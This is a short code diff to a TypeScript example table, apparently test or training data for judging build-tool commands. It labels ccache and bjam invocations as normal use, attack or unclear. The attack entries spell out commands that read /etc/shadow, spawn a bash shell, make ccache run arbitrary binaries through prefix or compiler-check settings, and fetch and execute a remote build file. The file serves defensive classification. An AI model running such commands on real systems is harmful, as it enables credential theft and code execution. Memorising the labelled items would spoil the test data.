@@ -120,8 +120,21 @@ export const buildTools1: ExampleTable = {
       'curl -so Jamfile https://example.org/x && bjam -f Jamfile → execute ‹https://example.org/x›',
   },
   ccache: {
-    use: 'ccache gcc -c app.c → read app.c; write app.o',
-    attack: ['ccache cat /etc/shadow → read /etc/shadow', 'ccache bash → shell bash'],
+    use: [
+      `ccache --set-config compiler_check='%compiler% -v' → nothing`,
+      'ccache gcc -c app.c → read app.c; write app.o',
+      `ccache --set-config prefix_command=distcc → nothing`,
+    ],
+    attack: [
+      `CCACHE_PREFIX=/tmp/x ccache gcc -c a.c → run /tmp/x`,
+      `ccache --set-config compiler_check='bash -c id' → run bash`,
+      `ccache --set-config prefix_command=/tmp/cc → run /tmp/cc`,
+      'ccache cat /etc/shadow → read /etc/shadow',
+      'ccache bash → shell bash',
+    ],
+    unclear: [
+      `ccache --set-config remote_storage=http://cache.example.org → whose compiled code it takes`,
+    ],
   },
   cmake: {
     use: 'cmake -P ci.cmake → read ci.cmake',
